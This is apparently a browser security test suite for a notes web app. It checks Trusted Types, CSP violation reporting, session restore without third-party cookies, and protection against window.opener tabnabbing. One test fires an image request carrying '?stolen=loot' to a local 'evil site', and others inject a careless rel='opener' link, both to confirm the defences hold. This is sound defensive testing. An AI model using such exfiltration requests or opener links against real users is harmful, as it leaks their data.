import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { type EvilSite, startEvilSite } from '../evil-site.ts'
import { describeInBrowser, setStage } from '../stage.ts'
import { requestsTo, tokenRequests } from '../visitor.ts'

describeInBrowser('the policy of the page', () => {
  const stage = setStage()
  let evil: EvilSite

  beforeAll(async () => {
    evil = await startEvilSite()
  })
  afterAll(() => evil?.close())

  it('F-02 · lets no string become markup, and the app goes on', async () => {
    const visitor = await stage.arriveSignedIn()
    const { page } = visitor
    visitor.excuse(/trusted-types|TrustedHTML|require-trusted-types-for/i)
    const error = await page.evaluate(() => {
      try {
        document.createElement('div').innerHTML = '<b>bold</b>'
        return 'none'
      } catch (cause) {
        return Object(cause).name
      }
    })

    expect(error).toBe('TypeError')
    await page.getByRole('button', { name: 'New note' }).click()
    await page.getByRole('dialog').waitFor()
  })

  it('F-03 · has its violations reported to the API, which notes them without any query', async () => {
    const visitor = await stage.arriveSignedIn({ path: '/notes?search=private-words' })
    const { page } = visitor
    visitor.excuse(/^img-src blocked|Content Security Policy/)
    await page.evaluate((url) => {
      new Image().src = url
    }, `${evil.url}/picture?stolen=loot`)

    await expect.poll(() => reports().length).toBeGreaterThan(0)
    const [report] = reports()
    expect(report).toContain('img-src')
    expect(report).not.toMatch(/private-words|stolen|loot/)
    expect(evil.visits).toEqual([])
  })

  it('X-43 · asks nothing of cookies of third parties: without them the session is restored', async () => {
    const visitor = await stage.arriveThroughPool()
    const { page, context } = visitor
    // What the pool would be sent from a page of another site, if the browser keeps such cookies back: nothing.
    await context.clearCookies()
    visitor.forgetRequests()
    await page.reload()

    await page.getByRole('button', { name: /^Account menu/ }).waitFor()
    expect(tokenRequests(visitor, 'refresh_token')).toHaveLength(1)
    expect(requestsTo(visitor, '/oauth2/authorize')).toEqual([])
    expect(page.frames()).toHaveLength(1)
  })

  it('X-44 · no link to elsewhere hands over the window', async () => {
    const { page } = await stage.arriveSignedIn({ path: '/', email: 'admin@example.com' })
    for (const path of ['/', '/notes', '/account', '/console', '/admin', '/nowhere']) {
      await page.goto(stage.world.webUrl + path)
      await page.getByRole('heading', { level: 1 }).waitFor()
      await page.waitForFunction(() => document.querySelector('[aria-busy=true]') === null)

      expect(await page.locator('a').count()).toBeGreaterThan(1)
      expect({ path, careless: await carelessLinks(page) }).toEqual({ path, careless: [] })
    }

    await addCarelessLink(page, evil)
    expect(await carelessLinks(page)).toEqual([`${evil.url}/`])
  })

  it('X-44 · a careless link would hand over nothing either: no window of another site has an opener', async () => {
    const { page } = await stage.arriveSignedIn()

    expect(await hasOpener(page, evil)).toBe(false)
  })

  function reports(): readonly string[] {
    return stage.world.log.filter((line) => /csp/i.test(line) && line.includes('img-src'))
  }
})

describeInBrowser('a page without an opener policy', () => {
  const stage = setStage({ withoutHeaders: ['cross-origin-opener-policy'] })

  it('X-44 · twin: hands its window over to a careless link', async () => {
    const evil = await startEvilSite()
    const { page } = await stage.arriveSignedIn()

    expect(await hasOpener(page, evil)).toBe(true)
    await evil.close()
  })
})

/** Links to other sites that open a window of their own and do not let go of it. */
function carelessLinks(page: Page): Promise<string[]> {
  return page.locator('a, area, form').evaluateAll((elements) =>
    elements
      .filter(
        (element) =>
          !['', '_self', null].includes(element.getAttribute('target')) &&
          !/\b(noopener|noreferrer)\b/.test(element.getAttribute('rel') ?? ''),
      )
      .map((element) => String(Reflect.get(element, 'href') ?? Reflect.get(element, 'action')))
      .filter((url) => new URL(url).origin !== location.origin),
  )
}

async function addCarelessLink(page: Page, evil: EvilSite): Promise<void> {
  await page.evaluate((url) => {
    const link = document.createElement('a')
    link.append('Careless')
    Object.assign(link, { href: url, target: '_blank', rel: 'opener' })
    document.body.append(link)
  }, `${evil.url}/`)
}

/** Whether the window of another site that a careless link opens can reach the page. */
async function hasOpener(page: Page, evil: EvilSite): Promise<boolean> {
  await addCarelessLink(page, evil)
  const [other] = await Promise.all([
    page.waitForEvent('popup'),
    page.getByRole('link', { name: 'Careless' }).click(),
  ])
  await other.waitForURL(`${evil.url}/`)
  return await other.evaluate(() => window.opener !== null)
}
